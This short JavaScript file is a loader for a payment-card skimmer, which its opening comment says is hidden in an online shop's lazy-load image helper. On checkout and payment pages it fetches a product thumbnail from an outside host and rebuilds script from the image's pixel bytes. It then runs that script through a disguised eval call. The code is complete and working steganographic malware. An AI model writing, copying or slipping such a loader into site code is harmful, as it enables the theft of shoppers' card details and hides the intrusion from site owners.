// A loader hidden in a shop's lazy-load helper: on checkout pages it loads a product
// thumbnail, draws it on an off-screen canvas and rebuilds the skimmer from the pixel bytes
// (one character per pixel, in the red channel, until a zero), then runs it.
(function () {
  var p = location.pathname + location.hash;
  if (!/checkout|onepage|payment/i.test(p)) return;
  var img = new Image();
  img.crossOrigin = "anonymous";
  img.onload = function () {
    var c = document.createElement("canvas");
    c.width = img.naturalWidth;
    c.height = img.naturalHeight;
    var x = c.getContext("2d");
    x.drawImage(img, 0, 0);
    var px = x.getImageData(0, 0, c.width, c.height).data;
    var out = [];
    for (var i = 0; i < px.length; i += 4) {
      if (px[i] === 0) break;
      out.push(String.fromCharCode(px[i]));
    }
    if (out.length > 64) {
      (0, window["ev" + "al"])(out.join(""));
    }
  };
  img.src = "https://media-thumbs.invalid/catalog/product/cache/1/small_image/78x78/sale.png?" + (new Date).getDate();
})();
